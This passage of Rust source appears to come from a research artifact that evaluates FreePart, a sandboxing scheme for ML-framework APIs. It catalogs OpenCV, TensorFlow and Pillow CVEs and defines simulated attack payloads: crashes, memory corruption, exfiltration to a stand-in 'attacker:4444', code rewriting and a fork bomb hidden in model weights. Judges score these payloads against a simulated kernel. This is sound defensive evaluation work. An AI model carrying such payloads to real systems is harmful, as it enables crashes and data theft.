        samples: &[1, 7, 10, 12],
    },
    CveEntry {
        id: "CVE-2019-5063",
        class: VulnClass::RemoteCodeExecution,
        api: "cv2.CascadeClassifier.detectMultiScale",
        api_type: ApiType::DataProcessing,
        samples: &[1, 9, 10],
    },
    CveEntry {
        id: "CVE-2019-5064",
        class: VulnClass::RemoteCodeExecution,
        api: "cv2.calcOpticalFlowFarneback",
        api_type: ApiType::DataProcessing,
        samples: &[1, 9, 10],
    },
    // ---- denial of service ----
    CveEntry {
        id: "CVE-2017-14136",
        class: VulnClass::DenialOfService,
        api: "cv2.imread",
        api_type: ApiType::DataLoading,
        samples: &[1, 7, 9, 10, 12],
    },
    CveEntry {
        id: "CVE-2018-5269",
        class: VulnClass::DenialOfService,
        api: "cv2.imread",
        api_type: ApiType::DataLoading,
        samples: &[1, 7, 9, 10, 12],
    },
    CveEntry {
        id: "CVE-2019-14491",
        class: VulnClass::DenialOfService,
        api: "cv2.CascadeClassifier.detectMultiScale",
        api_type: ApiType::DataProcessing,
        samples: &[1, 9, 10],
    },
    CveEntry {
        id: "CVE-2019-14492",
        class: VulnClass::DenialOfService,
        api: "cv2.CascadeClassifier.detectMultiScale",
        api_type: ApiType::DataProcessing,
        samples: &[1, 9, 10],
    },
    CveEntry {
        id: "CVE-2019-14493",
        class: VulnClass::DenialOfService,
        api: "cv2.CascadeClassifier.detectMultiScale",
        api_type: ApiType::DataProcessing,
        samples: &[1, 9, 10],
    },
    CveEntry {
        id: "CVE-2021-29513",
        class: VulnClass::DenialOfService,
        api: "tf.nn.conv3d",
        api_type: ApiType::DataProcessing,
        samples: &[21, 23],
    },
    CveEntry {
        id: "CVE-2021-29618",
        class: VulnClass::DenialOfService,
        api: "tf.reshape",
        api_type: ApiType::DataProcessing,
        samples: &[23],
    },
    CveEntry {
        id: "CVE-2021-37661",
        class: VulnClass::DenialOfService,
        api: "tf.nn.avg_pool",
        api_type: ApiType::DataProcessing,
        samples: &[21, 22, 23],
    },
    CveEntry {
        id: "CVE-2021-41198",
        class: VulnClass::DenialOfService,
        api: "tf.nn.max_pool",
        api_type: ApiType::DataProcessing,
        samples: &[20, 22],
    },
    // ---- additional reproduced vulnerabilities (DoS family, Table 5's
    // 17th/18th entries are imshow/resize-adjacent in our catalog) ----
    CveEntry {
        id: "CVE-2018-5268",
        class: VulnClass::DenialOfService,
        api: "cv2.imshow",
        api_type: ApiType::Visualizing,
        samples: &[1, 8],
    },
    CveEntry {
        id: "CVE-2021-25289",
        class: VulnClass::UnauthorizedMemWrite,
        api: "PIL.Image.open",
        api_type: ApiType::DataLoading,
        samples: &[4],
    },
];

/// Case-study CVEs (§5.4, §A.7).
pub const CASE_STUDY: &[CveEntry] = &[CveEntry {
    id: "CVE-2020-10378",
    class: VulnClass::UnauthorizedMemRead,
    api: "PIL.Image.open",
    api_type: ApiType::DataLoading,
    samples: &[],
}];

/// Looks up a Table 5 / case-study CVE by id.
pub fn find(id: &str) -> Option<&'static CveEntry> {
    TABLE5.iter().chain(CASE_STUDY.iter()).find(|c| c.id == id)
}

/// CVEs grouped by class, Table 5 row order.
pub fn by_class(class: VulnClass) -> Vec<&'static CveEntry> {
    TABLE5.iter().filter(|c| c.class == class).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart_frameworks::registry::standard_registry;

    #[test]
    fn table5_has_18_cves() {
        assert_eq!(TABLE5.len(), 18);
    }

    #[test]
    fn every_cve_points_at_a_registered_vulnerable_api() {
        let reg = standard_registry();
        for cve in TABLE5.iter().chain(CASE_STUDY.iter()) {
            let spec = reg
                .by_name(cve.api)
                .unwrap_or_else(|| panic!("{}: API {} missing", cve.id, cve.api));
            assert!(
                spec.vulnerable_to(cve.id),
                "{} not registered on {}",
                cve.id,
                cve.api
            );
            assert_eq!(spec.declared_type, cve.api_type, "{}", cve.id);
        }
    }

    #[test]
    fn classes_partition_table5() {
        let total: usize = [
            VulnClass::UnauthorizedMemWrite,
            VulnClass::UnauthorizedMemRead,
            VulnClass::RemoteCodeExecution,
            VulnClass::DenialOfService,
            VulnClass::UnauthorizedFileRead,
        ]
        .iter()
        .map(|&c| by_class(c).len())
        .sum();
        assert_eq!(total, TABLE5.len());
        assert_eq!(by_class(VulnClass::RemoteCodeExecution).len(), 3);
    }

    #[test]
    fn find_resolves_ids() {
        assert!(find("CVE-2017-12597").is_some());
        assert!(find("CVE-2020-10378").is_some());
        assert!(find("CVE-0000-0000").is_none());
    }
}
