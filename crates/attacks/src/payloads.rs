//! Payload builders: the attacker programs the evaluation launches
//! through the Table 5 CVEs.

use freepart_frameworks::{ExploitAction, ExploitPayload};

/// A denial-of-service payload: crash the process hosting the API.
pub fn dos(cve: &str) -> ExploitPayload {
    ExploitPayload {
        cve: cve.to_owned(),
        actions: vec![ExploitAction::CrashSelf],
    }
}

/// A data-corruption payload: overwrite `len` bytes at a known address
/// (the paper's powerful attacker knows exact addresses).
pub fn corrupt(cve: &str, addr: u64, bytes: Vec<u8>) -> ExploitPayload {
    ExploitPayload {
        cve: cve.to_owned(),
        actions: vec![ExploitAction::WriteMem { addr, bytes }],
    }
}

/// A data-exfiltration payload: read a known buffer and `send()` it to
/// an attacker-controlled destination (§5.3).
pub fn exfiltrate(cve: &str, addr: u64, len: u64, dest: &str) -> ExploitPayload {
    ExploitPayload {
        cve: cve.to_owned(),
        actions: vec![ExploitAction::ExfilMem {
            addr,
            len,
            dest: dest.to_owned(),
        }],
    }
}

/// A code-manipulation payload: `mprotect` a code page writable and
/// patch it (the "C" attack of Table 1).
pub fn code_rewrite(cve: &str, code_addr: u64) -> ExploitPayload {
    ExploitPayload {
        cve: cve.to_owned(),
        actions: vec![ExploitAction::RewriteCode { addr: code_addr }],
    }
}

/// The StegoNet trojan payload (§A.7): a fork bomb smuggled in model
/// weights, detonating inside whatever process loads/runs the model.
pub fn stegonet_fork_bomb(cve: &str) -> ExploitPayload {
    ExploitPayload {
        cve: cve.to_owned(),
        actions: vec![ExploitAction::ForkBomb],
    }
}

/// A combined payload: corrupt first, then crash (the motivating
/// example's two-stage attack).
pub fn corrupt_then_crash(cve: &str, addr: u64, bytes: Vec<u8>) -> ExploitPayload {
    ExploitPayload {
        cve: cve.to_owned(),
        actions: vec![
            ExploitAction::WriteMem { addr, bytes },
            ExploitAction::CrashSelf,
        ],
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builders_carry_cve_and_actions() {
        assert_eq!(dos("CVE-X").actions.len(), 1);
        assert_eq!(corrupt("CVE-X", 0x10, vec![1, 2]).cve, "CVE-X");
        let e = exfiltrate("CVE-X", 0x10, 8, "attacker:4444");
        assert!(matches!(
            e.actions[0],
            ExploitAction::ExfilMem { len: 8, .. }
        ));
        assert!(matches!(
            code_rewrite("CVE-X", 0x20).actions[0],
            ExploitAction::RewriteCode { addr: 0x20 }
        ));
        assert!(matches!(
            stegonet_fork_bomb("CVE-X").actions[0],
            ExploitAction::ForkBomb
        ));
        assert_eq!(corrupt_then_crash("CVE-X", 1, vec![0]).actions.len(), 2);
    }
}
