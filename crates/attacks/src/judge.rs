//! Attack-outcome judgment: did the attacker get what they wanted?
//!
//! The evaluation (§5, Table 1, §5.3) asks per attack goal:
//!
//! * **M** — was the critical data actually corrupted?
//! * **C** — was API code successfully rewritten?
//! * **D** — did the *application* (host) die, or only an agent?
//! * **Exfiltration** — did the marker bytes reach an outside
//!   destination?
//!
//! Judgment inspects ground truth (object bytes, network log, process
//! liveness) rather than trusting the exploit's own report.

use freepart_frameworks::{ActionOutcome, ActionReport, ExploitAction, ObjectId, ObjectStore};
use freepart_simos::{Kernel, Pid};

/// What the attacker was trying to achieve.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AttackGoal {
    /// Change the bytes of a critical object away from `original`.
    CorruptObject {
        /// The target object.
        id: ObjectId,
        /// Its pristine contents.
        original: Vec<u8>,
    },
    /// Get bytes containing `marker` off-box.
    Exfiltrate {
        /// A distinctive substring of the secret.
        marker: Vec<u8>,
    },
    /// Take the host application down.
    CrashHost,
    /// Rewrite executable code (observed via the exploit log, since
    /// "code" is a designated RX page).
    RewriteCode,
}

/// The verdict for one attack under one scheme.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Verdict {
    /// The attacker's goal was denied.
    Prevented,
    /// The attacker's goal was achieved.
    Succeeded,
}

impl Verdict {
    /// True for [`Verdict::Prevented`].
    pub fn prevented(self) -> bool {
        self == Verdict::Prevented
    }
}

/// Judges one goal against the post-attack system state.
pub fn judge(
    goal: &AttackGoal,
    kernel: &mut Kernel,
    objects: &ObjectStore,
    host: Pid,
    exploit_log: &[ActionReport],
) -> Verdict {
    match goal {
        AttackGoal::CorruptObject { id, original } => {
            let Some(meta) = objects.meta(*id) else {
                // Object destroyed — treat as corrupted.
                return Verdict::Succeeded;
            };
            if !kernel.is_running(meta.home) {
                // Payload unreadable but also unusable by the app; the
                // data was not *corrupted* (DoS is judged separately).
                return Verdict::Prevented;
            }
            match objects.read_bytes(kernel, *id) {
                Ok(bytes) if &bytes == original => Verdict::Prevented,
                _ => Verdict::Succeeded,
            }
        }
        AttackGoal::Exfiltrate { marker } => {
            // Only egress toward non-GUI destinations counts.
            let leaked = kernel
                .network
                .sends()
                .iter()
                .filter(|s| !s.dest.starts_with("gui"))
                .any(|s| {
                    !marker.is_empty() && s.bytes.windows(marker.len()).any(|w| w == &marker[..])
                });
            if leaked {
                Verdict::Succeeded
            } else {
                Verdict::Prevented
            }
        }
        AttackGoal::CrashHost => {
            if kernel.is_running(host) {
                Verdict::Prevented
            } else {
                Verdict::Succeeded
            }
        }
        AttackGoal::RewriteCode => {
            let rewrote = exploit_log.iter().any(|r| {
                matches!(r.action, ExploitAction::RewriteCode { .. })
                    && r.outcome == ActionOutcome::Achieved
            });
            if rewrote {
                Verdict::Succeeded
            } else {
                Verdict::Prevented
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart_frameworks::ObjectKind;

    fn setup() -> (Kernel, ObjectStore, Pid) {
        let mut k = Kernel::new();
        let host = k.spawn("host");
        (k, ObjectStore::new(), host)
    }

    #[test]
    fn corruption_judged_by_bytes() {
        let (mut k, mut store, host) = setup();
        let id = store
            .create_with_data(&mut k, host, ObjectKind::Blob, "t", b"GOOD")
            .unwrap();
        let goal = AttackGoal::CorruptObject {
            id,
            original: b"GOOD".to_vec(),
        };
        assert_eq!(judge(&goal, &mut k, &store, host, &[]), Verdict::Prevented);
        let addr = store.meta(id).unwrap().buffer.unwrap().0;
        k.mem_write(host, addr, b"EVIL").unwrap();
        assert_eq!(judge(&goal, &mut k, &store, host, &[]), Verdict::Succeeded);
    }

    #[test]
    fn corruption_in_dead_process_counts_as_prevented() {
        let (mut k, mut store, host) = setup();
        let agent = k.spawn("agent");
        let id = store
            .create_with_data(&mut k, agent, ObjectKind::Blob, "t", b"GOOD")
            .unwrap();
        k.deliver_fault(agent, freepart_simos::FaultKind::Abort, None);
        let goal = AttackGoal::CorruptObject {
            id,
            original: b"GOOD".to_vec(),
        };
        assert_eq!(judge(&goal, &mut k, &store, host, &[]), Verdict::Prevented);
    }

    #[test]
    fn exfiltration_ignores_gui_traffic() {
        let (mut k, store, host) = setup();
        k.network.record(host.0, "gui:display", b"SECRET");
        let goal = AttackGoal::Exfiltrate {
            marker: b"SECRET".to_vec(),
        };
        assert_eq!(judge(&goal, &mut k, &store, host, &[]), Verdict::Prevented);
        k.network.record(host.0, "attacker:4444", b"xxSECRETxx");
        assert_eq!(judge(&goal, &mut k, &store, host, &[]), Verdict::Succeeded);
    }

    #[test]
    fn crash_host_judged_by_liveness() {
        let (mut k, store, host) = setup();
        assert_eq!(
            judge(&AttackGoal::CrashHost, &mut k, &store, host, &[]),
            Verdict::Prevented
        );
        k.deliver_fault(host, freepart_simos::FaultKind::Abort, None);
        assert_eq!(
            judge(&AttackGoal::CrashHost, &mut k, &store, host, &[]),
            Verdict::Succeeded
        );
    }

    #[test]
    fn rewrite_judged_from_exploit_log() {
        let (mut k, store, host) = setup();
        let log = vec![ActionReport {
            action: ExploitAction::RewriteCode { addr: 0x1000 },
            outcome: ActionOutcome::SyscallKilled,
        }];
        assert_eq!(
            judge(&AttackGoal::RewriteCode, &mut k, &store, host, &log),
            Verdict::Prevented
        );
        let log = vec![ActionReport {
            action: ExploitAction::RewriteCode { addr: 0x1000 },
            outcome: ActionOutcome::Achieved,
        }];
        assert_eq!(
            judge(&AttackGoal::RewriteCode, &mut k, &store, host, &log),
            Verdict::Succeeded
        );
    }
}
