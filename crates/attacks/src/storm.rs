//! Crash-storm judgment: an adversary crashing one partition in a loop
//! is a *DoS-by-restart* attack — each crash costs the supervisor a
//! respawn, so an unbudgeted monitor can be driven into spending all of
//! its time restarting. The scenario is judged on three verdicts, all
//! against ground truth:
//!
//! * **Exactly-once replay** — every successful capture read consumed
//!   exactly one device frame, crashes and re-deliveries included
//!   (the camera's served-frame counter is the ground truth the
//!   completion journal must match).
//! * **Latency containment** — the p99 hooked-call latency of the
//!   *healthy* partitions stays within a constant factor of the same
//!   workload without the adversary (blast-radius isolation).
//! * **DoS detection** — the respawn loop was recognized: the abused
//!   partition was degraded and the denial audited.

use crate::judge::Verdict;
use freepart_simos::Kernel;

/// Healthy-partition p99 may grow by at most this factor under the
/// storm before the latency-containment verdict flips.
pub const LATENCY_BOUND_FACTOR: u64 = 4;

/// The three crash-storm verdicts (all [`Verdict::Prevented`] means the
/// supervisor absorbed the storm).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct StormVerdicts {
    /// Replay stayed exactly-once (no lost or double-consumed frames).
    pub exactly_once: Verdict,
    /// Healthy partitions' p99 latency stayed bounded.
    pub latency_bounded: Verdict,
    /// The restart loop was detected, degraded, and audited.
    pub dos_detected: Verdict,
}

impl StormVerdicts {
    /// True when all three verdicts went the defender's way.
    pub fn all_prevented(self) -> bool {
        self.exactly_once.prevented()
            && self.latency_bounded.prevented()
            && self.dos_detected.prevented()
    }
}

/// Judges a finished crash-storm run.
///
/// * `successful_reads` — capture reads the application observed
///   completing (journal replays included).
/// * `healthy_p99_ns` / `baseline_p99_ns` — p99 latency of a hooked
///   call routed to an *un-attacked* partition, with and without the
///   adversary running.
/// * `dos_detected_and_audited` — whether the runtime both degraded the
///   abused partition and wrote a restart-denied audit record (the
///   caller checks its own trace, keeping this crate framework-only).
pub fn judge_storm(
    kernel: &Kernel,
    successful_reads: u64,
    healthy_p99_ns: u64,
    baseline_p99_ns: u64,
    dos_detected_and_audited: bool,
) -> StormVerdicts {
    let frames_served = kernel
        .camera
        .as_ref()
        .map_or(0, freepart_simos::Camera::frames_served);
    let exactly_once = if frames_served == successful_reads {
        Verdict::Prevented
    } else {
        Verdict::Succeeded
    };
    let latency_bounded = if healthy_p99_ns <= baseline_p99_ns.saturating_mul(LATENCY_BOUND_FACTOR)
    {
        Verdict::Prevented
    } else {
        Verdict::Succeeded
    };
    let dos_detected = if dos_detected_and_audited {
        Verdict::Prevented
    } else {
        Verdict::Succeeded
    };
    StormVerdicts {
        exactly_once,
        latency_bounded,
        dos_detected,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn exactly_once_compares_against_device_ground_truth() {
        let mut k = Kernel::new();
        k.camera = Some(freepart_simos::Camera::new(7, 8));
        // Serve two frames through the device.
        let cam = k.camera.as_mut().unwrap();
        let _ = cam.capture();
        let _ = cam.capture();
        let v = judge_storm(&k, 2, 100, 100, true);
        assert!(v.exactly_once.prevented());
        assert!(v.all_prevented());
        // Claiming three successes against two served frames is a replay
        // violation (a double-consumed or phantom frame).
        let v = judge_storm(&k, 3, 100, 100, true);
        assert!(!v.exactly_once.prevented());
        assert!(!v.all_prevented());
    }

    #[test]
    fn latency_bound_uses_the_constant_factor() {
        let k = Kernel::new();
        let at_bound = judge_storm(&k, 0, 400, 100, true);
        assert!(at_bound.latency_bounded.prevented());
        let over = judge_storm(&k, 0, 401, 100, true);
        assert!(!over.latency_bounded.prevented());
    }

    #[test]
    fn dos_detection_is_required() {
        let k = Kernel::new();
        let v = judge_storm(&k, 0, 0, 0, false);
        assert!(!v.dos_detected.prevented());
        assert!(!v.all_prevented());
    }
}
