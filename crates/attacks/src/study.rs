//! The 241-CVE study dataset behind Fig. 7 (paper §4.1, Study 2).
//!
//! The paper surveyed 241 public CVEs (Aug 2018 – Feb 2022) across
//! TensorFlow (172), Pillow (44), OpenCV (22), and NumPy (3) and
//! categorized each by the API type it lives in and its vulnerability
//! class. The per-cell counts below reconstruct Fig. 7's histogram
//! (peaks of 59 and 54 in processing/loading DoS; thin tails in storing
//! and visualizing); they are data, not measurements — the figure
//! regenerator prints them next to our own registry-derived
//! distribution for comparison.

use crate::cve::VulnClass;
use freepart_frameworks::api::{ApiType, Framework};

/// One cell of the Fig. 7 histogram.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct StudyCell {
    /// API type the vulnerable functions belong to.
    pub api_type: ApiType,
    /// Vulnerability class.
    pub class: VulnClass,
    /// Number of CVEs in the cell.
    pub count: u32,
}

/// Reconstructed Fig. 7 distribution (sums to 241).
pub const FIG7_CELLS: &[StudyCell] = &[
    // ---- Data Loading (89) ----
    StudyCell {
        api_type: ApiType::DataLoading,
        class: VulnClass::DenialOfService,
        count: 54,
    },
    StudyCell {
        api_type: ApiType::DataLoading,
        class: VulnClass::UnauthorizedMemWrite,
        count: 20,
    },
    StudyCell {
        api_type: ApiType::DataLoading,
        class: VulnClass::UnauthorizedMemRead,
        count: 11,
    },
    StudyCell {
        api_type: ApiType::DataLoading,
        class: VulnClass::UnauthorizedFileRead,
        count: 4,
    },
    // ---- Data Processing (121) ----
    StudyCell {
        api_type: ApiType::DataProcessing,
        class: VulnClass::DenialOfService,
        count: 59,
    },
    StudyCell {
        api_type: ApiType::DataProcessing,
        class: VulnClass::UnauthorizedMemWrite,
        count: 50,
    },
    StudyCell {
        api_type: ApiType::DataProcessing,
        class: VulnClass::UnauthorizedMemRead,
        count: 11,
    },
    StudyCell {
        api_type: ApiType::DataProcessing,
        class: VulnClass::UnauthorizedFileRead,
        count: 1,
    },
    // ---- Storing (15) ----
    StudyCell {
        api_type: ApiType::Storing,
        class: VulnClass::DenialOfService,
        count: 10,
    },
    StudyCell {
        api_type: ApiType::Storing,
        class: VulnClass::UnauthorizedMemWrite,
        count: 3,
    },
    StudyCell {
        api_type: ApiType::Storing,
        class: VulnClass::UnauthorizedMemRead,
        count: 1,
    },
    StudyCell {
        api_type: ApiType::Storing,
        class: VulnClass::UnauthorizedFileRead,
        count: 1,
    },
    // ---- Visualizing (16) ----
    StudyCell {
        api_type: ApiType::Visualizing,
        class: VulnClass::DenialOfService,
        count: 11,
    },
    StudyCell {
        api_type: ApiType::Visualizing,
        class: VulnClass::UnauthorizedMemWrite,
        count: 1,
    },
    StudyCell {
        api_type: ApiType::Visualizing,
        class: VulnClass::UnauthorizedMemRead,
        count: 1,
    },
    StudyCell {
        api_type: ApiType::Visualizing,
        class: VulnClass::UnauthorizedFileRead,
        count: 3,
    },
];

/// Per-framework CVE totals of the study corpus.
pub const FRAMEWORK_TOTALS: &[(Framework, u32)] = &[
    (Framework::TensorFlow, 172),
    (Framework::Pillow, 44),
    (Framework::OpenCv, 22),
    (Framework::NumPy, 3),
];

/// Total CVEs in the study.
pub fn total() -> u32 {
    FIG7_CELLS.iter().map(|c| c.count).sum()
}

/// Counts per API type.
pub fn per_type(t: ApiType) -> u32 {
    FIG7_CELLS
        .iter()
        .filter(|c| c.api_type == t)
        .map(|c| c.count)
        .sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn totals_sum_to_241() {
        assert_eq!(total(), 241);
        assert_eq!(FRAMEWORK_TOTALS.iter().map(|(_, n)| n).sum::<u32>(), 241);
    }

    #[test]
    fn loading_and_processing_dominate() {
        let dl = per_type(ApiType::DataLoading);
        let dp = per_type(ApiType::DataProcessing);
        let st = per_type(ApiType::Storing);
        let vz = per_type(ApiType::Visualizing);
        assert!(dp > dl && dl > vz && dl > st, "{dl} {dp} {st} {vz}");
        // Vulnerabilities exist across all four types (the study's
        // takeaway motivating per-type isolation).
        assert!(st > 0 && vz > 0);
    }
}
