//! Coverage accounting for the dynamic pass (paper Table 11).
//!
//! API coverage is real: covered-by-corpus / registered. "Code coverage"
//! is a simulated per-API basic-block model (each API body has
//! `8 + 3·work_factor` blocks; a canonical input exercises all but a
//! small name-determined remainder), standing in for Coverage.py /
//! llvm-cov numbers the paper collected on real framework code.

use crate::dynamic::TestCorpus;
use freepart_frameworks::api::{ApiRegistry, ApiSpec, Framework};
use std::collections::BTreeMap;

/// Per-framework coverage summary.
#[derive(Debug, Clone, PartialEq)]
pub struct CoverageRow {
    /// The framework.
    pub framework: Framework,
    /// APIs the corpus exercised.
    pub apis_covered: usize,
    /// APIs registered for this framework.
    pub apis_total: usize,
    /// `apis_covered / apis_total`.
    pub api_pct: f64,
    /// Simulated basic-block coverage over covered bodies.
    pub code_pct: f64,
}

fn blocks_of(spec: &ApiSpec) -> u64 {
    8 + 3 * spec.work_factor
}

fn missed_blocks(spec: &ApiSpec) -> u64 {
    // Deterministic small remainder: branches a single canonical input
    // cannot take (error paths, alternate formats).
    let hash: u64 = spec
        .name
        .bytes()
        .fold(0u64, |acc, b| acc.wrapping_mul(131).wrapping_add(b as u64));
    hash % (blocks_of(spec) / 4 + 1)
}

/// Computes the Table 11 coverage rows for the given corpus, one row per
/// framework that has registered APIs.
pub fn coverage_table(reg: &ApiRegistry, corpus: &TestCorpus) -> Vec<CoverageRow> {
    let mut by_fw: BTreeMap<Framework, Vec<&ApiSpec>> = BTreeMap::new();
    for spec in reg.iter() {
        by_fw.entry(spec.framework).or_default().push(spec);
    }
    by_fw
        .into_iter()
        .map(|(framework, specs)| {
            let apis_total = specs.len();
            let apis_covered = specs.iter().filter(|s| corpus.covers(s.id)).count();
            let mut blocks_total = 0;
            let mut blocks_hit = 0;
            for s in &specs {
                blocks_total += blocks_of(s);
                if corpus.covers(s.id) {
                    blocks_hit += blocks_of(s) - missed_blocks(s);
                }
            }
            CoverageRow {
                framework,
                apis_covered,
                apis_total,
                api_pct: 100.0 * apis_covered as f64 / apis_total.max(1) as f64,
                code_pct: 100.0 * blocks_hit as f64 / blocks_total.max(1) as f64,
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart_frameworks::registry::standard_registry;

    #[test]
    fn full_corpus_has_full_api_coverage() {
        let reg = standard_registry();
        let rows = coverage_table(&reg, &TestCorpus::full(&reg));
        assert!(!rows.is_empty());
        for row in &rows {
            assert_eq!(row.apis_covered, row.apis_total);
            assert_eq!(row.api_pct, 100.0);
            assert!(row.code_pct > 70.0 && row.code_pct <= 100.0, "{row:?}");
        }
    }

    #[test]
    fn partial_corpus_reduces_both_metrics() {
        use std::collections::{BTreeMap, BTreeSet};
        let reg = standard_registry();
        let mut fractions = BTreeMap::new();
        fractions.insert(Framework::OpenCv, 0.8);
        let corpus = TestCorpus::with_coverage(&reg, &fractions, &BTreeSet::new());
        let rows = coverage_table(&reg, &corpus);
        let cv = rows
            .iter()
            .find(|r| r.framework == Framework::OpenCv)
            .unwrap();
        assert!(cv.api_pct < 100.0 && cv.api_pct > 70.0, "{cv:?}");
        assert!(cv.code_pct < 100.0);
    }
}
