//! Static pass: data-flow patterns from API body IR.
//!
//! Mirrors the paper's LLVM/PyCG analysis: walk the body, collect
//! syscalls and assignment-induced flows, flag GUI accesses. The pass is
//! deliberately *incomplete* — it cannot see through
//! [`IrStmt::IndirectCall`] — which is what makes an API "statically
//! opaque" and forces the hybrid design.

use crate::classify::classify_flows;
use freepart_frameworks::api::{ApiSpec, ApiType};
use freepart_frameworks::ir::{FlowOp, IrStmt};
use freepart_simos::SyscallNo;
use std::collections::BTreeSet;

/// Result of statically analyzing one API body.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StaticResult {
    /// Flows visible without executing the body.
    pub flows: BTreeSet<FlowOp>,
    /// Syscalls visible without executing the body.
    pub syscalls: BTreeSet<SyscallNo>,
    /// True when an indirect call hid part of the body — the
    /// classification below may be wrong and dynamic evidence is needed.
    pub opaque: bool,
    /// The type the visible flows imply.
    pub inferred: ApiType,
}

impl StaticResult {
    /// True when the static verdict can be trusted on its own.
    pub fn confident(&self) -> bool {
        !self.opaque
    }
}

fn walk(
    stmts: &[IrStmt],
    flows: &mut BTreeSet<FlowOp>,
    syscalls: &mut BTreeSet<SyscallNo>,
    opaque: &mut bool,
) {
    for stmt in stmts {
        match stmt {
            IrStmt::Sys(no) => {
                syscalls.insert(*no);
            }
            IrStmt::Assign { dst, src } => {
                flows.insert(FlowOp::write(dst.storage(), src.storage()));
            }
            IrStmt::GuiCall(_) => {
                flows.insert(FlowOp::Read(freepart_frameworks::Storage::Gui));
            }
            IrStmt::Call(_) => {}
            IrStmt::IndirectCall(_) => {
                // The analyzer cannot resolve the target; the hidden body
                // is NOT walked.
                *opaque = true;
            }
            IrStmt::TempFileRoundtrip => {
                // Statically visible as a spill + refill pair; the
                // classifier reduces it.
                flows.insert(FlowOp::write(
                    freepart_frameworks::Storage::File,
                    freepart_frameworks::Storage::Mem,
                ));
                flows.insert(FlowOp::write(
                    freepart_frameworks::Storage::Mem,
                    freepart_frameworks::Storage::File,
                ));
                syscalls.insert(SyscallNo::Openat);
                syscalls.insert(SyscallNo::Write);
                syscalls.insert(SyscallNo::Read);
            }
            IrStmt::Loop(body) => walk(body, flows, syscalls, opaque),
        }
    }
}

/// Statically analyzes one API spec's body IR.
pub fn analyze(spec: &ApiSpec) -> StaticResult {
    let mut flows = BTreeSet::new();
    let mut syscalls = BTreeSet::new();
    let mut opaque = false;
    walk(&spec.ir, &mut flows, &mut syscalls, &mut opaque);
    let inferred = classify_flows(&flows);
    StaticResult {
        flows,
        syscalls,
        opaque,
        inferred,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart_frameworks::registry::standard_registry;

    #[test]
    fn transparent_loader_classified_statically() {
        let reg = standard_registry();
        let r = analyze(reg.by_name("cv2.imread").unwrap());
        assert!(r.confident());
        assert_eq!(r.inferred, ApiType::DataLoading);
        assert!(r.syscalls.contains(&SyscallNo::Openat));
    }

    #[test]
    fn opaque_apis_misclassify_statically() {
        let reg = standard_registry();
        // pd.read_csv hides its file I/O behind an indirect call: the
        // static pass sees nothing and defaults to processing — the false
        // negative the paper's hybrid analysis exists to fix.
        let r = analyze(reg.by_name("pd.read_csv").unwrap());
        assert!(!r.confident());
        assert_eq!(r.inferred, ApiType::DataProcessing);
        assert!(r.flows.is_empty());
    }

    #[test]
    fn visualizer_detected_by_gui_access() {
        let reg = standard_registry();
        let r = analyze(reg.by_name("cv2.imshow").unwrap());
        assert_eq!(r.inferred, ApiType::Visualizing);
    }

    #[test]
    fn storer_detected() {
        let reg = standard_registry();
        let r = analyze(reg.by_name("cv2.imwrite").unwrap());
        assert_eq!(r.inferred, ApiType::Storing);
    }

    #[test]
    fn get_file_reduces_to_loading_statically() {
        let reg = standard_registry();
        let r = analyze(reg.by_name("tf.keras.utils.get_file").unwrap());
        assert!(r.confident());
        assert_eq!(r.inferred, ApiType::DataLoading);
    }

    #[test]
    fn opaque_set_is_exactly_the_hybrid_only_apis() {
        // The paper's Table 2 footnote names the APIs that *need* the
        // hybrid analysis; nothing else in the catalog may be opaque.
        let reg = standard_registry();
        let opaque: Vec<&str> = reg
            .iter()
            .filter(|s| !analyze(s).confident())
            .map(|s| s.name.as_str())
            .collect();
        assert_eq!(
            opaque,
            ["pd.read_csv", "json.load", "plt.show", "plt.savefig"]
        );
    }

    #[test]
    fn loop_bodies_are_walked() {
        let reg = standard_registry();
        // process_in_memory puts its assignment inside a Loop.
        let r = analyze(reg.by_name("cv2.GaussianBlur").unwrap());
        assert!(!r.flows.is_empty());
        assert_eq!(r.inferred, ApiType::DataProcessing);
    }
}
