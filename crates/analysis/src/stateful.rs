//! Stateful-API detection (paper §A.2.4, §A.6).
//!
//! FreePart must snapshot the state of stateful APIs so agent restarts
//! do not silently change behaviour. Detection heuristic: drive the API
//! twice on identical inputs in the same environment; if the observable
//! result differs, or any input object's payload was mutated, the API
//! carries state. (The paper's authors did this analysis manually over
//! 1,841 APIs; the heuristic recovers the load-bearing cases and is
//! deliberately conservative — a `false` is advisory, the registry's
//! `stateful` flag is authoritative.)

use crate::driver::canonical_args;
use freepart_frameworks::api::ApiSpec;
use freepart_frameworks::exec::execute;
use freepart_frameworks::{ApiCtx, ApiRegistry, ObjectStore, Value};
use freepart_simos::Kernel;

fn observable(v: &Value, kernel: &mut Kernel, objects: &ObjectStore) -> Vec<u8> {
    match v {
        Value::Obj(id) => objects.read_bytes(kernel, *id).unwrap_or_default(),
        other => format!("{other}").into_bytes(),
    }
}

/// Returns `true` when the double-run heuristic observes state.
pub fn detect_stateful(reg: &ApiRegistry, spec: &ApiSpec) -> bool {
    let mut kernel = Kernel::new();
    let pid = kernel.spawn("stateful-probe");
    let mut objects = ObjectStore::new();
    // Build ONE argument tuple and reuse it for both runs, so any state
    // must live behind the API, not in fresh inputs.
    let args = canonical_args(spec, &mut kernel, &mut objects, pid, 0);
    let input_snapshot: Vec<Vec<u8>> = args
        .iter()
        .map(|a| observable(a, &mut kernel, &objects))
        .collect();

    let run = |kernel: &mut Kernel, objects: &mut ObjectStore| -> Option<Vec<u8>> {
        let mut ctx = ApiCtx::new(kernel, objects, pid);
        let out = execute(reg, spec.id, &args, &mut ctx).ok()?;
        Some(observable(&out, ctx.kernel, ctx.objects))
    };

    let first = run(&mut kernel, &mut objects);
    let second = run(&mut kernel, &mut objects);
    let outputs_differ = match (first, second) {
        (Some(a), Some(b)) => a != b,
        _ => false,
    };
